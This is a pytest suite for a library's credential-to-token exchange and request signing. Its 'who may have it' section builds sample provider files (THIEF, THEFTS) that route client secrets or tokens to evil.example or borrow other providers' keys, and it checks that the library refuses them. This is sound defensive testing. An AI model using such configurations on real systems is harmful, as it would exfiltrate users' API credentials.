"""auth.token and auth.sign: a credential becomes a token, as data; what goes wrong is one sentence without a secret."""

from __future__ import annotations

import asyncio
import base64
import builtins
import contextlib
import copy
import json
import subprocess
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from types import SimpleNamespace

import pytest
from helpers import data_files
from helpers.clock import Clock
from helpers.driver_without_io import definition, holds
from helpers.token_server import TokenServer
from test_vocabulary import remove, schema_keys

import prx
from prx import session
from prx.core import token as tokens
from prx.core.exchange import Read, Send
from prx.secret import Secret
from prx.spec.catalog import Exchange, exchange_of
from prx.spec.loader import Loader
from prx.spec.resolve import merge
from prx.wire import Head

CASES = data_files.read(Path(__file__).parent / "tokens.yaml")
PLAIN = {
    "credential": "CREDENTIAL",
    "token": {"url": "https://login.example/token", "answer": {"token": "access_token"}},
}
ANSWER = {"json": {"access_token": "got-this-token"}}


@pytest.fixture(scope="session")
def rsa_key():
    """A private key in PEM, and a function that says whether it has signed something."""
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import padding, rsa

    key = rsa.generate_private_key(65537, 2048)
    pem = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    ).decode()
    return SimpleNamespace(
        pem=pem,
        check=lambda data, signature: key.public_key().verify(signature, data, padding.PKCS1v15(), hashes.SHA256()),
    )


def credential(auth=None, **parts):
    parts = {"api_key": "all-of-it", "id": "id-1", "secret": "secret-1", **parts}
    url = ((auth or PLAIN).get("token") or {}).get("url", "")
    return tokens.Credential(url, {name: Secret(text) for name, text in parts.items()}, {"TEAM": Secret("red")})


def run(auth, answer=ANSWER, *, now=1000.0, **parts):
    """(requests, the Token or None, the Error or None) of one exchange."""
    auth = merge(PLAIN, auth)
    spec = definition({"auth": auth}).spec()
    fresh = iter(f"fresh-{place}" for place in range(1, 9))
    flow = tokens.obtain(spec, credential(auth, **parts), now, lambda: next(fresh))
    requests, result, body = [], None, b""
    try:
        while True:
            ask = flow.send(result)
            if isinstance(ask, Send):
                requests.append(ask.request)
                text = answer["text"] if "text" in answer else json.dumps(answer["json"])
                result, body = Head(answer.get("status", 200), answer.get("headers", {}), now), text.encode()
            else:
                assert isinstance(ask, Read)
                result, body = body, b""
    except StopIteration as stop:
        return requests, stop.value, None
    except prx.Error as error:
        return requests, None, error


def view(case, auth, key):
    requests, token, error = run(auth, case.get("answer", ANSWER), private_key=key.pem)
    seen = {"request": None, "token": None, "error": None, "jwt": None}
    if requests:
        (request,) = requests
        headers = {name: text.reveal() if isinstance(text, Secret) else text for name, text in request.headers.items()}
        body = bytes(request.body).decode()
        seen["request"] = {"method": request.method, "url": request.url, "headers": headers, "body": body}
        seen["json"] = json.loads(body) if body.startswith("{") else None
        seen["jwt"] = read_jwt(body.partition("assertion=")[2], key)
    if token:
        seen["token"] = {
            "value": token.value.reveal(),
            "until": token.until,
            "early": token.early,
            "base_url": token.base_url,
        }
        seen["jwt"] = seen["jwt"] or read_jwt(token.value.reveal(), key)
    if error:
        seen["error"] = {"kind": error.kind, "message": error.message, "status": error.status}
    return seen


def read_jwt(text, key):
    if text.count(".") != 2:
        return None
    header, claims, signature = (base64.urlsafe_b64decode(f"{part}==") for part in text.split("."))
    key.check(text.rpartition(".")[0].encode(), signature)  # raises where another key has signed
    return {"header": json.loads(header), "claims": json.loads(claims), "fits": True}


each_case = pytest.mark.parametrize("case", CASES, ids=lambda case: "+".join(case["keys"])[:60])


@each_case
def test_a_key_of_the_exchange(case, rsa_key):
    seen = view(case, case["auth"], rsa_key)
    for condition in case["hold"]:
        assert holds(condition, seen), f"{condition}\n{json.dumps(seen, indent=1)}"


@each_case
def test_a_key_of_the_exchange_matters(case, rsa_key):
    for key in case["keys"]:
        auth = copy.deepcopy(case["auth"])
        if "without" in case:
            auth = case["without"]
        else:
            assert remove(auth, key.partition("=")[0].split(".")[1:]), key
        try:
            seen = view(case, auth, rsa_key)
        except (AssertionError, AttributeError, TypeError):
            continue  # without it there is no exchange: such a file is refused before it is compiled
        base = key in (
            "auth.token",
            "auth.token.answer",
            "auth.token.answer.token",
            "auth.token.url",
        )  # are in PLAIN as well
        assert base or not all(holds(condition, seen) for condition in case["hold"]), f"{key} makes no difference"


def test_every_key_of_the_exchange_has_a_case():
    covered = {key for case in CASES for key in case["keys"]}
    keys = {key for key in schema_keys() if key.startswith(("auth.token", "auth.jwt", "auth.sign"))} - {
        "auth.sign=aws4"
    }
    sent = {key for key in keys if key.startswith("auth.token.sent")}  # test_a_token_may_travel_otherwise
    assert covered == keys - sent


# ------------------------------------------------------------------ what goes wrong

BROKEN = {
    "no JSON": ({"text": "ok"}, "it answered with no JSON: ok"),
    "empty": ({"text": ""}, "it answered with an empty body"),
    "a login page": ({"text": "<!doctype html><title>Log in</title>"}, "it answered with a web page instead of JSON: <!doctype html>"),
    "no token": ({"json": {"token_type": "bearer", "scope": "x"}}, "it gave no token where auth.token.answer.token looks for it; the answer's keys: scope, token_type"),
    "a token that is none": ({"json": {"access_token": {"a": 1}}}, "it gave no token"),
    "a token that cannot be sent": ({"json": {"access_token": "a\nb"}}, "it answered with a token that no header can carry"),
    "a list": ({"json": []}, "the answer's keys: none"),
    "a redirect": ({"status": 302, "headers": {"location": "https://sso.example/secret-1"}, "text": ""}, "it redirects to https://sso.example/***, which prx does not follow"),
}  # fmt: skip


@pytest.mark.parametrize("name", BROKEN)
def test_a_broken_answer_is_one_sentence(name):
    answer, sentence = BROKEN[name]
    _, token, error = run({}, answer)
    assert token is None
    assert (type(error), error.provider) == (prx.ProtocolError, "played")
    assert error.message.startswith("the exchange of the key at https://login.example/token: ")
    assert sentence in error.message
    assert "\n" not in error.message


@pytest.mark.parametrize(
    ("status", "kind", "retryable"),
    [(400, "auth", False), (401, "auth", False), (403, "auth", False), (404, "not_found", False), (429, "rate_limit", True), (500, "server", True), (503, "server", True)],
)  # fmt: skip
def test_a_refused_exchange(status, kind, retryable):
    answer = {
        "status": status,
        "headers": {"retry-after": "7"},
        "text": '{"error": "secret-1 and all-of-it are wrong"}',
    }
    _, _, error = run({"token": {"form": {"s": "{secret}"}}}, answer)
    assert (error.kind, error.status, error.retryable, error.retry_after) == (kind, status, retryable, 7.0)
    assert (
        error.message
        == 'the exchange of the key at https://login.example/token was refused: {"error": "*** and *** are wrong"}'
    )


@pytest.mark.parametrize("url", ["https://evil.example/v1", "http://eu.api.example/v1", "https://eu.api.example:8443/", "https://api.example.evil.example", "https://u@eu.api.example", "https://[", "eu.api.example"])  # fmt: skip
def test_a_base_url_that_the_file_does_not_allow(url):
    auth = {"token": {"hosts": ["*.api.example"], "answer": {"base_url": "api"}}}
    _, token, error = run(auth, {"json": {"access_token": "got-this-token", "api": url}})
    assert token is None
    assert "which is at none of auth.token.hosts" in error.message


def test_a_part_that_is_missing():
    requests, _, error = run({"token": {"form": {"email": "{client_email}"}}})
    assert (requests, error.kind) == ([], "config")
    assert (
        error.message
        == "the credential has no part 'client_email', which the provider's file asks for; it has id, secret"
    )
    _, _, error = run({"token": {"form": {"email": "${MISSING}"}}})
    assert error.message == "the exchange of the key needs the environment variable MISSING, which is not set"


def test_an_endless_answer_ends():
    _, _, error = run({}, {"text": '{"access_token": "' + "a" * (2 << 20) + '"}'})
    assert error.kind == "protocol"
    assert len(error.message) < 700


LABEL = "PRIVATE KEY"  # not written out: no file of the project looks as if it held a key


@pytest.mark.parametrize("pem", ["", "secret", f"-----BEGIN {LABEL}-----\nMIIB\n-----END {LABEL}-----\n"])
def test_a_key_that_cannot_sign(pem):
    requests, _, error = run({"sign": "rs256", "jwt": {"key": "{private_key}"}}, private_key=pem)
    assert (requests, error.kind) == ([], "config")
    assert error.message == "the private key of its credential cannot be read"


def test_a_key_of_the_environment_may_have_its_line_breaks_in_two_characters(rsa_key):
    signing = {"sign": "rs256", "jwt": {"key": "{private_key}"}}
    _, token, error = run(signing, private_key=rsa_key.pem.replace("\n", "\\n"))
    assert (token is not None, error) == (True, None)


def test_signing_needs_a_package(monkeypatch, rsa_key):
    real = builtins.__import__

    def without(name, *rest):
        if name.startswith("cryptography"):
            raise ImportError(name)
        return real(name, *rest)

    monkeypatch.setattr(builtins, "__import__", without)
    _, _, error = run({"sign": "rs256", "jwt": {"key": "{private_key}"}}, private_key=rsa_key.pem)
    assert (
        str(error)
        == "played: its key signs a token, for which the package cryptography is needed\nInstall it: pip install 'prx-engine[jwt]'"
    )


def test_nothing_is_imported_for_those_who_sign_nothing():
    code = "import sys, prx; prx.Client(config={}, env={}); print('cryptography' in sys.modules)"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "False"


def test_what_is_shown_of_an_exchange_has_no_secret():
    auth = merge(
        PLAIN,
        {
            "token": {
                "basic": "{id}:{secret}",
                "headers": {"x-a": "{api_key}", "x-b": "${TEAM}"},
                "form": {"a": "{id}", "b": "{secret}"},
            }
        },
    )
    spec = definition({"auth": auth}).spec()
    shown = tokens.shown_request(spec, credential(auth))
    assert bytes(shown.body) == b"a=id-1&b=***"
    assert {name: str(text) for name, text in shown.headers.items() if name in ("authorization", "x-a", "x-b")} == {
        "authorization": "Basic ***", "x-a": "***", "x-b": "***",
    }  # fmt: skip
    real = tokens.exchange_request(spec, credential(auth), lambda: "fresh")
    assert b"secret-1" in bytes(real.body)
    for text in (
        repr(real),
        str(real),
        f"{real}",
        repr(tokens.Token(Secret("got-this-token"), 1, 1)),
        repr(credential()),
    ):
        assert "secret-1" not in text
        assert "all-of-it" not in text
        assert "got-this-token" not in text


# ------------------------------------------------------------------ calls, over a real loopback

SECRET = "client-secret-0123456789"
ENV = {"MINE_ID": "client-1", "MINE_SECRET": SECRET}
FILE = """spec: 1
id: mine
extends: openai-chat
base_url: {url}/v1
auth:
  env: MINE_KEY
  required: true
  credential: {{client_id: MINE_ID, client_secret: MINE_SECRET}}
  token:
    url: {url}/token
    form: {{grant_type: client_credentials, client_id: '{{client_id}}', client_secret: '{{client_secret}}'}}
    answer: {{token: access_token, expires_in: expires_in, message: error}}
{more}"""


@pytest.fixture
def folder(tmp_path):
    def made(server, more="", name="mine", text=FILE):
        (tmp_path / f"{name}.yaml").write_text(text.format(url=getattr(server, "url", server), more=more))
        return tmp_path

    return made


def test_a_credential_of_the_environment_becomes_a_token(folder):
    with TokenServer() as server, prx.Client({}, folder(server), env=ENV) as api:
        assert [api.chat("hi", "mine/m").content for _ in range(3)] == ["hello"] * 3
        assert api.models("mine") == ["m"]
        with api.stream("hi", "mine/m") as stream:
            assert "".join(delta.content or "" for delta in stream) == "hello"
        ((method, path, headers, body),) = server.exchanges
        assert (method, path, headers["content-type"]) == ("POST", "/token", "application/x-www-form-urlencoded")
        assert body == f"grant_type=client_credentials&client_id=client-1&client_secret={SECRET}"
        assert {call[2]["authorization"] for call in server.calls} == {"Bearer token-made-by-loopback-1"}
        assert SECRET not in str(server.calls)


def test_where_a_credential_comes_from(folder):
    """From the environment all of it; from the configuration a JSON object. A key that is ready is sent as it is."""
    with TokenServer() as server:
        server.valid.add("ready")
        place = folder(server)

        def sent(env, **table):
            server.exchanges.clear()
            prx.Client({"providers": {"mine": table}}, place, env=env).chat("hi", "mine/m")
            return [body.rpartition("=")[2] for *_, body in server.exchanges]

        assert sent(ENV) == [SECRET]
        assert sent({"MINE_KEY": "ready", **ENV}) == []
        assert sent({}, api_key="ready") == []
        parts = json.dumps({"client_id": "other", "client_secret": "other-secret-1"})
        assert sent(ENV, api_key=parts) == ["other-secret-1"]
        assert sent({"S": "third-secret-1"}, api_key='{"client_id": "a", "client_secret": "${S}"}') == [
            "third-secret-1"
        ]
        with pytest.raises(prx.ConfigError, match="MINE_SECRET is not set; a token is made of MINE_ID and MINE_SECRET"):
            sent({"MINE_ID": "client-1"})
        with pytest.raises(prx.ConfigError, match="no API key"):
            sent({})
        text = FILE.replace("{{client_id: MINE_ID, client_secret: MINE_SECRET}}", "[MINE_ONE, MINE_TWO]")
        place = folder(server, text=text.replace("'{{client_id}}'", "'{{api_key}}'"))
        assert sent({"MINE_TWO": '{"client_secret": "of-a-json-1"}'}) == ["of-a-json-1"]
        with pytest.raises(prx.ConfigError, match="the credential has no part 'client_secret'"):
            sent({"MINE_ONE": "text"})


SENT = [
    ({"style": "bearer"}, "authorization", "Bearer {}"),
    ({"style": "x-api-key"}, "x-api-key", "{}"),
    ({"style": "custom", "name": "x-token"}, "x-token", "{}"),
    ({"style": "custom", "name": "authorization", "template": "Token {api_key}"}, "authorization", "Token {}"),
    ({"style": "query", "name": "access_token"}, "?access_token", "{}"),
    ({"style": "none"}, "", ""),
]


@pytest.mark.parametrize(("form", "place", "text"), SENT, ids=lambda value: str(value)[:40])
def test_a_token_may_travel_otherwise(form, place, text, folder):
    """A key goes into one header, and a token into another."""
    more = f"    sent: {json.dumps(form)}\n"
    with TokenServer() as server:
        file = FILE.replace("auth:\n", "auth:\n  style: custom\n  name: api-key\n")
        with pytest.raises(prx.Error) if text != "Bearer {}" else contextlib.nullcontext():
            prx.Client({}, folder(server, more, text=file), env=ENV).chat("hi", "mine/m", retries=0)
        _, path, headers, _ = server.calls[-1]
        token = f"token-made-by-loopback-{len(server.exchanges)}"
        if place.startswith("?"):
            assert path.endswith(f"{place}={token}")
        elif place:
            assert headers[place] == text.format(token)
        assert "api-key" not in headers
        assert (token in str(server.calls)) is bool(place)


def test_a_token_that_the_provider_refuses_is_got_anew_once(folder):
    with TokenServer() as server, prx.Client({}, folder(server), env=ENV) as api:
        api.chat("hi", "mine/m")
        kept = api.accounts.get("mine").source._kept
        kept.held = kept.held._replace(got=0.0)  # it is older than a moment
        server.valid.clear()
        assert api.chat("hi", "mine/m").content == "hello"
        assert (len(server.exchanges), len(server.calls)) == (2, 3)


def test_the_age_of_a_refused_token_is_that_at_its_refusal(folder):
    """A call may wait long between its token and the answer that refuses it."""
    with TokenServer() as server, prx.Client({}, folder(server), env=ENV) as api:
        choice = api.accounts.get("mine").source.for_call()
        api.chat("hi", "mine/m")
        now = time.time()
        with pytest.raises(StopIteration):
            next(choice.obtain(now))
        refused = prx.AuthError("no", status=401)
        assert choice.other(refused, now + 60)


def test_a_provider_that_refuses_every_token_is_not_asked_forever(folder):
    with TokenServer() as server, prx.Client({}, folder(server), env=ENV) as api:
        server.valid = set_of_nothing()
        for _ in range(5):
            with pytest.raises(prx.AuthError, match="401: the token is not valid") as caught:
                api.chat("hi", "mine/m")
        assert caught.value.attempts == 1
        assert (len(server.exchanges), len(server.calls)) == (1, 5)


class set_of_nothing(set):  # noqa: N801 - a set, for one test
    """Takes nothing in."""

    def add(self, _):
        pass


@pytest.fixture
def clock(monkeypatch):
    made = Clock(1_000_000.0)
    monkeypatch.setattr(session, "time", SimpleNamespace(time=made))
    return made


def test_a_token_is_got_anew_shortly_before_its_end(folder, clock):
    with TokenServer(lasts=3600) as server, prx.Client({}, folder(server), env=ENV) as api:
        for past, exchanges in ((0, 1), (3539, 1), (3541, 2), (3541 + 3539, 2), (20_000, 3)):
            clock.now = 1_000_000.0 + past
            api.chat("hi", "mine/m")
            assert len(server.exchanges) == exchanges, past


def test_a_token_that_still_holds_is_used_where_no_other_can_be_got(folder, clock):
    with TokenServer(lasts=3600) as server, prx.Client({}, folder(server), env=ENV) as api:
        api.chat("hi", "mine/m")
        server.answer = (400, {}, b'{"error": "down"}')
        clock.now += 3550
        assert api.chat("hi", "mine/m").content == "hello"
        assert api.chat("hi", "mine/m").content == "hello"
        assert len(server.exchanges) == 2, "it is not asked at every call"
        clock.now += 60
        with pytest.raises(prx.AuthError, match="was refused: down"):
            api.chat("hi", "mine/m")


def test_a_thousand_calls_across_an_end_make_one_exchange(folder, clock):
    async def main(server, place):
        async with prx.AsyncClient({}, place, env=ENV) as api:
            await api.chat("hi", "mine/m")
            clock.now += 3590
            replies = await asyncio.gather(*(api.chat("hi", "mine/m") for _ in range(1000)))
            return [reply.content for reply in replies]

    with TokenServer(pause=0.05) as server:
        assert asyncio.run(main(server, folder(server))) == ["hello"] * 1000
        assert len(server.exchanges) == 2
        assert {call[2]["authorization"] for call in server.calls[1:]} == {"Bearer token-made-by-loopback-2"}


def in_threads(count, work):
    with ThreadPoolExecutor(count) as pool:
        return list(pool.map(lambda _: work(), range(count)))


def test_fifty_threads_across_an_end_make_one_exchange(folder, clock):
    with TokenServer(pause=0.2) as server, prx.Client({}, folder(server), env=ENV) as api:
        api.chat("hi", "mine/m")
        clock.now += 3590
        assert in_threads(50, lambda: api.chat("hi", "mine/m").content) == ["hello"] * 50
        assert len(server.exchanges) == 2


def said(call):
    try:
        return call()
    except prx.Error as error:
        return error


REFUSED = (401, {}, json.dumps({"error": f"invalid_client, secret {SECRET}"}).encode())
SENTENCE = "mine: 401: the exchange of the key at {}/token was refused: invalid_client, secret ***\nThe provider was not called. Is the credential right, and still in force?"


def test_a_refused_exchange_is_one_error_in_every_call(folder):
    with TokenServer(answer=REFUSED, pause=0.2) as server, prx.Client({}, folder(server), env=ENV) as api:
        errors = in_threads(50, lambda: said(lambda: api.chat("hi", "mine/m")))
        errors += [said(lambda: api.chat("hi", "mine/m")) for _ in range(10)]
        assert {str(error) for error in errors} == {SENTENCE.format(server.url)}
        assert {type(error) for error in errors} == {prx.AuthError}
        assert len({id(error) for error in errors}) == 60, "each call has an error of its own"
        assert (len(server.exchanges), server.calls) == (1, [])


def test_a_refused_exchange_is_one_error_in_every_asynchronous_call(folder):
    async def main(place):
        async with prx.AsyncClient({}, place, env=ENV) as api:
            return await asyncio.gather(*(api.chat("hi", "mine/m") for _ in range(1000)), return_exceptions=True)

    with TokenServer(answer=REFUSED, pause=0.05) as server:
        errors = asyncio.run(main(folder(server)))
        assert {str(error) for error in errors} == {SENTENCE.format(server.url)}
        assert (len(server.exchanges), server.calls) == (1, [])


def test_a_refused_exchange_is_tried_again_after_a_while(folder, clock):
    with TokenServer(answer=REFUSED) as server, prx.Client({}, folder(server), env=ENV) as api:
        assert isinstance(said(lambda: api.chat("hi", "mine/m")), prx.AuthError)
        server.answer = None
        assert isinstance(said(lambda: api.chat("hi", "mine/m")), prx.AuthError)
        clock.now += 6
        assert api.chat("hi", "mine/m").content == "hello"


def test_an_endpoint_that_fails_for_a_moment_is_asked_again(folder):
    answers = iter([(503, {}, b"{}"), (503, {}, b"{}"), None])
    with TokenServer(answer=lambda: next(answers)) as server:
        place = folder(server, "retry: {wait: 0.01}\n")
        assert prx.Client({}, place, env=ENV).chat("hi", "mine/m").content == "hello"
        assert len(server.exchanges) == 3
    with pytest.raises(
        prx.ProviderConnectionError, match=r"the exchange of the key at http://127\.0\.0\.1:\d+/token: "
    ) as caught:
        prx.Client({}, place, env=ENV).chat("hi", "mine/m", retries=1)
    assert len(caught.value.history) == 2


def test_a_deadline_holds_while_a_call_waits_for_a_token(folder):
    with TokenServer(pause=1.0) as server, prx.Client({}, folder(server), env=ENV) as api:
        with ThreadPoolExecutor(2) as pool:
            slow = pool.submit(lambda: said(lambda: api.chat("hi", "mine/m", deadline=0.3)))
            time.sleep(0.1)
            patient = pool.submit(lambda: said(lambda: api.chat("hi", "mine/m")))
            quick = said(lambda: api.chat("hi", "mine/m", deadline=0.1))
            assert isinstance(quick, prx.ProviderTimeoutError)
            assert isinstance(slow.result(), prx.ProviderTimeoutError)
            assert patient.result().content == "hello", "it does not fail with the one that has begun the exchange"


def test_a_cancelled_call_takes_no_other_down(folder):
    async def main(place):
        async with prx.AsyncClient({}, place, env=ENV) as api:
            first = asyncio.create_task(api.chat("hi", "mine/m"))
            await asyncio.sleep(0.05)
            second = asyncio.create_task(api.chat("hi", "mine/m"))
            await asyncio.sleep(0.05)
            first.cancel()
            timed = await asyncio.gather(api.chat("hi", "mine/m", deadline=0.05), return_exceptions=True)
            return (await second).content, timed[0], first.cancelled()

    with TokenServer(pause=0.4) as server:
        content, timed, cancelled = asyncio.run(main(folder(server)))
        assert (content, cancelled, len(server.exchanges)) == ("hello", True, 1)
        assert isinstance(timed, prx.ProviderTimeoutError)


def test_a_route_goes_on_where_a_target_gets_no_token(folder):
    """And the requests of an exchange take the way that their account's requests take."""
    with TokenServer(answer=REFUSED) as bad, TokenServer() as good:
        folder(bad, name="bad", text=FILE.replace("id: mine", "id: bad"))
        place = folder(good)
        route = {"pattern": "any", "targets": [{"model": "bad/m"}, {"model": "mine/m"}]}
        reply = prx.Client({"model_routes": [route]}, place, env=ENV).chat("hi", "any")
        assert (reply.provider, len(bad.exchanges), len(good.exchanges)) == ("mine", 1, 1)
        proxied = {"providers": {"mine": {"proxy": "http://127.0.0.1:9"}}, "model_routes": [route]}
        with pytest.raises(prx.ProviderConnectionError, match="the exchange of the key at"):
            prx.Client(proxied, place, env={**ENV, "NO_PROXY": ""}).chat("hi", "mine/m", retries=0)


def test_a_reload_keeps_a_token_and_a_changed_credential_gets_another(folder, tmp_path):
    config, env = tmp_path / "c.toml", {"S": "one-1234567"}
    config.write_text('[providers.mine]\napi_key = \'{"client_id": "a", "client_secret": "${S}"}\'\n')
    with TokenServer() as server:
        api = prx.Client(config, folder(server), env=env)
        for expected in (1, 1, 2):
            api.chat("hi", "mine/m")
            assert len(server.exchanges) == expected
            api.reload()
            env["S"] = "one-1234567" if expected == 1 and len(server.calls) == 1 else "two-1234567"


# ------------------------------------------------------------------ who may have it

PACKAGED = {"DATABRICKS_HOST": "ws.example", "DATABRICKS_CLIENT_ID": "id-1", "DATABRICKS_CLIENT_SECRET": SECRET}
THIEF = """spec: 1
id: {id}
extends: openai-chat
base_url: {base}
auth:
  credential: {{client_id: DATABRICKS_CLIENT_ID, client_secret: {secret}}}
  token: {{url: '{token}', form: {{s: '{{client_secret}}'}}, answer: {{token: access_token{more}}}{hosts}}}
"""
HOME, DOOR = "https://${DATABRICKS_HOST}/ai-gateway/mlflow/v1", "https://${DATABRICKS_HOST}/oidc/v1/token"
EVIL = "https://evil.example/v1"


def thief(folder, id="thief", base=HOME, token=DOOR, more="", hosts="", secret="DATABRICKS_CLIENT_SECRET"):  # noqa: A002
    (folder / f"{id}.yaml").write_text(
        THIEF.format(id=id, base=base, token=token, more=more, hosts=hosts, secret=secret)
    )
    return folder


def opened(folder, name="thief", env=PACKAGED, **table):
    return prx.Client({"providers": {name: table}} if table else {}, folder, env=env).accounts.get(name)


THEFTS = {
    "the credential": {"token": EVIL},
    "the token": {"base": EVIL},
    "both": {"base": EVIL, "token": EVIL},
    "the token, by a base URL that it invents": {"more": ", base_url: \"'https://evil.example'\"", "hosts": ", hosts: [evil.example]"},
    "another provider's key": {"base": "https://api.groq.com/openai/v1", "token": EVIL, "secret": "GROQ_API_KEY"},
    "another provider's key, at home": {"base": "https://api.groq.com/openai/v1", "token": "https://api.groq.com/t", "secret": "GROQ_API_KEY"},
}  # fmt: skip


@pytest.mark.parametrize("way", THEFTS)
@pytest.mark.parametrize("name", ["thief", "databricks"])
def test_a_dropped_in_file_takes_no_credential_of_a_packaged_provider(way, name, tmp_path):
    env = {**PACKAGED, "GROQ_API_KEY": SECRET}
    with pytest.raises(prx.ConfigError, match="which belongs to https") as caught:
        opened(thief(tmp_path, name, **THEFTS[way]), name, env)
    assert SECRET not in f"{caught.value}{caught.value.hint}"


@pytest.mark.parametrize("way", [way for way in THEFTS if "key" not in way])
def test_a_dropped_in_file_takes_no_configured_credential_by_taking_a_name(way, tmp_path):
    said = json.dumps({"client_id": "id-1", "client_secret": SECRET})
    with pytest.raises(prx.ConfigError, match=r"providers\.databricks\.api_key is for ") as caught:
        opened(
            thief(tmp_path, "databricks", **THEFTS[way]), "databricks", {"DATABRICKS_HOST": "ws.example"}, api_key=said
        )
    assert SECRET not in f"{caught.value}{caught.value.hint}"


def test_at_home_a_dropped_in_file_may_have_a_credential(tmp_path):
    """It may change what it likes but the addresses; and with an id of its own, the key in its table is the consent."""
    found = opened(thief(tmp_path))
    assert found.source.credential.url == "https://ws.example/oidc/v1/token"
    assert found.source.credential.parts["client_secret"].reveal() == SECRET
    (tmp_path / "corp.yaml").write_text("spec: 1\nid: corp\nextends: gigachat\nauth: {token: {form: {scope: CORP}}}\n")
    assert opened(tmp_path, "corp", {"GIGACHAT_CREDENTIALS": SECRET}).source.shown().endswith(" · scope=CORP")
    said = json.dumps({"client_id": "id-1", "client_secret": "given-1234"})
    mine = opened(thief(tmp_path, "mine", EVIL, EVIL), "mine", {}, api_key=said)
    assert mine.source.credential.parts["client_secret"].reveal() == "given-1234"


def test_a_variable_in_a_template_is_held_to_the_same(tmp_path):
    file = "spec: 1\nid: thief\nextends: openai-chat\nbase_url: https://evil.example/v1\nauth:\n  credential: OWN\n  token: {{url: '{}', headers: {{x: '${{{}}}', y: '{{api_key}}'}}, answer: {{token: t}}}}\n"
    env = {"OWN": "own-1234", "GROQ_API_KEY": SECRET, "TEAM": "red"}
    (tmp_path / "thief.yaml").write_text(file.format(EVIL, "GROQ_API_KEY"))
    with pytest.raises(prx.ConfigError, match="GROQ_API_KEY, which belongs to"):
        opened(tmp_path, env=env)
    (tmp_path / "thief.yaml").write_text(file.format("https://${SNOWFLAKE_CORTEX_PAT}.evil.example", "TEAM"))
    with pytest.raises(prx.ConfigError, match="puts SNOWFLAKE_CORTEX_PAT, a key of another provider, into the URL"):
        opened(tmp_path, env=env)
    (tmp_path / "thief.yaml").write_text(file.format(EVIL, "TEAM"))
    assert opened(tmp_path, env=env).source.credential.values["TEAM"].reveal() == "red"


def test_to_an_api_url_of_ones_own_nothing_of_the_environment_goes():
    """Neither the credential nor its token. A text is the key of the server there; a JSON object is exchanged."""
    url = "http://127.0.0.1:1/v1"
    with pytest.raises(prx.ConfigError, match="no API key"):
        opened(None, "databricks", PACKAGED, api_url=url)
    assert opened(None, "databricks", PACKAGED, api_url=url, api_key="of-the-server").source is None
    said = json.dumps({"client_id": "id-1", "client_secret": "given-1234"})
    found = opened(None, "databricks", PACKAGED, api_url=url, api_key=said)
    assert (found.target.base_url, found.source.credential.url) == (url, "https://ws.example/oidc/v1/token")
    assert opened(None, "gigachat", {}, api_url=url, api_key="of-the-server").source is None
    assert opened(None, "gigachat", {}, api_key="of-the-console").source is not None
    assert opened(None, "gigachat", {}, api_key="a-token", auth_style="bearer").source is None, (
        "the table says how it travels"
    )


def test_packaged_files_say_their_exchanges_themselves():
    """The catalogue looks at each file alone when it asks whose a variable is; so none inherits an exchange."""
    catalog = Loader()
    found = {}
    for entry in catalog.entries():
        if entry.packaged and (token := catalog.load(entry).spec().auth.token):
            found[entry.id] = exchange_of(catalog.glance(entry))
            assert found[entry.id] == Exchange(token.url, token.hosts), entry.id
    assert {"vertexai", "azure", "databricks", "gigachat", "watsonx", "github-copilot"} <= found.keys()
    assert all(exchange.url.startswith("https://") for exchange in found.values())


# ------------------------------------------------------------------ packaged files, as they exchange

PACKAGED_EXCHANGES = {
    "databricks": (PACKAGED, "POST https://ws.example/oidc/v1/token", "grant_type=client_credentials&scope=all-apis"),
    "azure": (
        {"AZURE_OPENAI_RESOURCE": "r", "AZURE_TENANT_ID": "t-1", "AZURE_CLIENT_ID": "id-1", "AZURE_CLIENT_SECRET": SECRET},
        "POST https://login.microsoftonline.com/t-1/oauth2/v2.0/token",
        f"grant_type=client_credentials&client_id=id-1&client_secret={SECRET}&scope=https%3A%2F%2Fcognitiveservices.azure.com%2F.default",
    ),
    "gigachat": ({"GIGACHAT_CREDENTIALS": SECRET}, "POST https://ngw.devices.sberbank.ru:9443/api/v2/oauth", "scope=GIGACHAT_API_PERS"),
    "watsonx": (
        {"WATSONX_REGION": "us-south", "WATSONX_APIKEY": SECRET}, "POST https://iam.cloud.ibm.com/identity/token",
        f"grant_type=urn%3Aibm%3Aparams%3Aoauth%3Agrant-type%3Aapikey&apikey={SECRET}",
    ),
    "github-copilot": ({"COPILOT_GITHUB_TOKEN": SECRET}, "GET https://api.github.com/copilot_internal/v2/token", ""),
    "sap-ai-core": (
        {"AICORE_API_HOST": "api.example", "AICORE_AUTH_HOST": "auth.example", "AICORE_CLIENT_ID": "id-1", "AICORE_CLIENT_SECRET": SECRET},
        "POST https://auth.example/oauth/token", "grant_type=client_credentials",
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", PACKAGED_EXCHANGES)
def test_a_packaged_exchange(name):
    env, line, body = PACKAGED_EXCHANGES[name]
    account = prx.Client({}, env=env).accounts.get(name)
    flow = account.source.obtain(0.0).send(None).begin()
    request = flow.send(None).request
    assert (f"{request.method} {request.url}", bytes(request.body).decode()) == (line, body)
    assert SECRET not in account.source.shown()
    headers = {key: text.reveal() for key, text in request.headers.items() if isinstance(text, Secret)}
    basic = base64.b64encode(f"id-1:{SECRET}".encode()).decode()
    assert headers.get("authorization", "").rpartition(" ")[2] in ("", SECRET, basic)
    if name == "github-copilot":
        flow.send(Head(200, {}, 0.0))
        answer = {
            "token": "tid=1;exp=2",
            "expires_at": 1500,
            "endpoints": {"api": "https://api.business.githubcopilot.com"},
        }
        flow.send(json.dumps(answer).encode())
        with pytest.raises(StopIteration) as stop:
            flow.send(b"")
        token = stop.value.value
        assert (token.until, token.base_url) == (1500.0, "https://api.business.githubcopilot.com")


def test_a_service_account(rsa_key):
    key = {
        "type": "service_account",
        "client_email": "me@project.example",
        "private_key_id": "k1",
        "private_key": rsa_key.pem,
    }
    env = {"GOOGLE_CLOUD_PROJECT": "project-1", "VERTEXAI_CREDENTIALS": json.dumps(key)}
    account = prx.Client({}, env=env).accounts.get("vertexai")
    request = account.source.obtain(1000.0).send(None).begin().send(None).request
    assert request.url == "https://oauth2.googleapis.com/token"
    grant, _, assertion = bytes(request.body).decode().partition("&assertion=")
    assert grant == "grant_type=urn%3Aietf%3Aparams%3Aoauth%3Agrant-type%3Ajwt-bearer"
